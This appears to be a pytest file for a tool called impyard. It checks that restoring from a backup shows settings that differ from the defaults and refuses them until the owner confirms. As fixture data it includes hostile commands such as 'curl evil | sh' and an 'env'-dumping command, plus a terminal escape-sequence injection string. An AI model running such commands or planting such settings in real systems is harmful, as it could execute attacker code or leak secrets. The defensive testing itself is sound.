"""Restore shows the image, command and agent each imp would get, and refuses settings that
differ from what the imp runs anyway until the owner says which to take."""

from __future__ import annotations

import json
from pathlib import Path

import pygit2

from impyard.backup.meta import SETTINGS_REF, settings_commit
from impyard.home import Home
from impyard.knowledge.imps import ImpSettings, read_imp_settings
from tests.helpers.cli import Cli
from tests.helpers.fake_engine import engine_with_images
from tests.helpers.hostile_trees import knowledge_tree, raw_commit
from tests.helpers.repo import assert_fsck_clean

ATTACKER = ImpSettings(image="evil/box:1", command="echo ATTACKER-CHOSEN-COMMAND; env")


def remote(base: Path, imp: str, settings: ImpSettings | None) -> pygit2.Repository:
    """``<base>/<imp>.git``: a clean main, and ``settings`` as the backup carries them."""
    repo = pygit2.init_repository(str(base / f"{imp}.git"), bare=True, initial_head="main")
    repo.references.create("refs/heads/main", raw_commit(repo, knowledge_tree(repo, [])))
    if settings is not None:
        repo.references.create(SETTINGS_REF, settings_commit(repo, settings), force=True)
    return repo


def test_foreign_settings_are_shown_and_refused_without_the_owners_yes(
    cli: Cli, tmp_path: Path
) -> None:
    base = tmp_path / "backups"
    remote(base, "yuko", ATTACKER)
    assert cli("init").code == 0

    refused = cli("restore", "--from", str(base))
    assert refused.code == 1
    first, line = refused.stderr.splitlines()
    assert first.startswith("impyard: error: refusing to install settings from the backup")
    assert "--accept-settings" in first and "--keep-settings" in first
    assert line == (
        "  yuko: image 'evil/box:1' (default: 'impyard-box:latest'); "
        "command 'echo ATTACKER-CHOSEN-COMMAND; env' (default: the image's own)"
    )
    assert json.loads(cli("imp", "list", "--json").stdout) == []  # nothing installed

    as_json = cli("restore", "--from", str(base), "--json")
    assert as_json.code == 1
    [offered] = json.loads(as_json.stdout)["settings"]
    assert offered["imp"] == "yuko" and offered["local"] is None
    assert offered["backup"] == ATTACKER.as_dict()

    accepted = cli("restore", "--from", str(base), "--accept-settings", "--json")
    assert accepted.code == 0, accepted.stderr
    [row] = json.loads(accepted.stdout)
    assert (row["settings"], row["image"], row["command"], row["agent"]) == (
        "backup",
        "evil/box:1",
        "echo ATTACKER-CHOSEN-COMMAND; env",
        None,
    )
    home = Home(cli.home)
    assert read_imp_settings(home, "yuko") == ATTACKER
    assert_fsck_clean(home.repo("yuko"))


def test_text_output_names_what_each_imp_got(cli: Cli, tmp_path: Path) -> None:
    base = tmp_path / "backups"
    remote(base, "yuko", ATTACKER)
    remote(base, "kai", None)  # no settings: the defaults, nothing to confirm
    remote(base, "pi", ImpSettings("impyard-pi:latest", "exec /opt/impyard/bin/pi-imp", "pi"))
    restored = cli("restore", "--from", str(base), "--accept-settings")
    assert restored.code == 0, restored.stderr
    lines = restored.stdout.splitlines()
    shown = {lines[i].split(":")[0]: lines[i + 1] for i in range(0, len(lines), 2)}
    assert shown == {
        "kai": "  image -, command -, agent -",
        "pi": "  image 'impyard-pi:latest', command 'exec /opt/impyard/bin/pi-imp', agent 'pi'",
        "yuko": "  image 'evil/box:1', command 'echo ATTACKER-CHOSEN-COMMAND; env', agent -",
    }


def test_default_and_known_agent_settings_need_no_confirmation(cli: Cli, tmp_path: Path) -> None:
    base = tmp_path / "backups"
    remote(base, "kai", None)
    remote(base, "pi", ImpSettings("impyard-pi:latest", "exec /opt/impyard/bin/pi-imp", "pi"))
    remote(base, "box", ImpSettings(image="impyard-box:latest"))
    restored = cli("restore", "--from", str(base))
    assert restored.code == 0, restored.stderr
    assert "settings backup" in restored.stdout and "settings default" in restored.stdout


def test_an_agent_whose_command_was_changed_is_foreign(cli: Cli, tmp_path: Path) -> None:
    base = tmp_path / "backups"
    remote(base, "pi", ImpSettings("impyard-pi:latest", "curl evil | sh", "pi"))
    refused = cli("restore", "--from", str(base))
    assert refused.code == 1
    assert "command 'curl evil | sh' (pi's: 'exec /opt/impyard/bin/pi-imp')" in refused.stderr


def test_keep_settings_keeps_the_local_ones_and_defaults_a_new_imp(
    cli: Cli, tmp_path: Path
) -> None:
    base = tmp_path / "backups"
    assert cli("init").code == 0
    with engine_with_images() as engine:
        created = cli(
            "imp", "create", "yuko", "--image", "mine:2", "--command", "run-mine", env=engine
        )
    assert created.code == 0
    home = Home(cli.home)
    mine = read_imp_settings(home, "yuko")
    # The backup holds what this data root has (its main) but other settings.
    repo = pygit2.init_repository(str(base / "yuko.git"), bare=True, initial_head="main")
    local = pygit2.Repository(str(home.repo("yuko")))
    repo.remotes.create_anonymous(str(home.repo("yuko"))).fetch(
        ["+refs/heads/main:refs/heads/main"]
    )
    assert str(repo.references["refs/heads/main"].target) == str(
        local.references["refs/heads/main"].target
    )
    repo.references.create(SETTINGS_REF, settings_commit(repo, ATTACKER))
    remote(base, "kai", ATTACKER)

    refused = cli("restore", "--from", str(base))
    assert refused.code == 1
    assert "  yuko: image 'evil/box:1' (here: 'mine:2'); command " in refused.stderr

    kept = cli("restore", "--from", str(base), "--keep-settings", "--json")
    assert kept.code == 0, kept.stderr
    rows = {row["imp"]: row for row in json.loads(kept.stdout)}
    assert (rows["yuko"]["settings"], rows["yuko"]["image"]) == ("kept", "mine:2")
    assert (rows["kai"]["settings"], rows["kai"]["image"], rows["kai"]["command"]) == (
        "default",
        None,
        None,
    )
    assert read_imp_settings(home, "yuko") == mine
    assert read_imp_settings(home, "kai") == ImpSettings()

    both = cli("restore", "--from", str(base), "--keep-settings", "--accept-settings")
    assert both.code == 2
    accepted = cli("restore", "--from", str(base), "--imp", "yuko", "--accept-settings")
    assert accepted.code == 0, accepted.stderr
    assert read_imp_settings(home, "yuko") == ATTACKER


def test_a_command_with_control_characters_is_shown_escaped(cli: Cli, tmp_path: Path) -> None:
    base = tmp_path / "backups"
    remote(base, "yuko", ImpSettings(command="true\x1b[2J\rclean"))
    refused = cli("restore", "--from", str(base))
    assert refused.code == 1
    assert "\x1b" not in refused.stderr and "\r" not in refused.stderr
    assert "command 'true\\x1b[2J\\rclean'" in refused.stderr
